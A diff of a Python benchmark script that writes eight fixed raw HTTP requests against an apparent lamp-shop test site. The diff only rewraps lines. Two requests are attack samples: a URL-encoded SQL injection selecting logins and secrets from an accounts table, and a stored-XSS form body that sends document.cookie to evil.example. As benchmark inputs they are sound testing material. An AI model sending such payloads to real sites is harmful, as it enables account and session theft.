@@ -1,8 +1,8 @@
 #!/usr/bin/env python3
 """Writes the eight requests that are measured, as raw HTTP/1.1, always the same bytes: bench_requests.py DIRECTORY
 
-R1 the smallest GET · R2 a page as a browser asks for it · R3 2 KiB of JSON · R4 a form of 1 KiB · R5 an upload of 64 KiB ·
-R6 SQL injection in the query · R7 a script in a form · R8 a form of 128 KiB
+R1 the smallest GET · R2 a page as a browser asks for it · R3 2 KiB of JSON · R4 a form of 1 KiB
+R5 an upload of 64 KiB · R6 SQL injection in the query · R7 a script in a form · R8 a form of 128 KiB
 """
 import json
 import os
@@ -75,7 +75,8 @@ def requests():
     boundary, picture = upload(source)
     cookies = "sid=9c1e7b3f5a2d4806; view=list; locale=de-CH; _ga=GA1.2.5512097734.1728000000; basket=71aa; ok=stats"
     target = "/lamps/search?room=living-room&page=2&order=price_desc&q=small+brass+lamp"
-    injection = "/lamps/show?number=7%27%20OR%20%27x%27%3D%27x%27%20UNION%20SELECT%20login%2C%20secret%20FROM%20accounts%20--%20"
+    injection = ("/lamps/show?number=7%27%20OR%20%27x%27%3D%27x%27%20UNION%20SELECT%20login%2C%20secret"
+                 "%20FROM%20accounts%20--%20")
     origin = [("Origin", "https://shop.example.net"), ("Referer", "https://shop.example.net/form.html")]
     return {
         "R1": request("GET", "/", HOST + [("User-Agent", "curl/8.5.0"), ("Accept", "*/*")]),
@@ -90,7 +91,8 @@ def requests():
             ("Content-Type", "multipart/form-data; boundary=" + boundary)], picture),
         "R6": request("GET", injection, BROWSER),
         "R7": request("POST", "/guests/add", BROWSER + [FORM] + origin,
-                      b"who=Lia&text=%3Cscript%3Efetch%28%27%2F%2Fevil.example%2F%27%2Bdocument.cookie%29%3C%2Fscript%3E"),
+                      b"who=Lia&text=%3Cscript%3Efetch%28%27%2F%2Fevil.example%2F%27%2Bdocument.cookie%29"
+                      b"%3C%2Fscript%3E"),
         "R8": request("POST", "/texts/store", BROWSER + [FORM] + origin, form(source, 50, 131072)),
     }
 
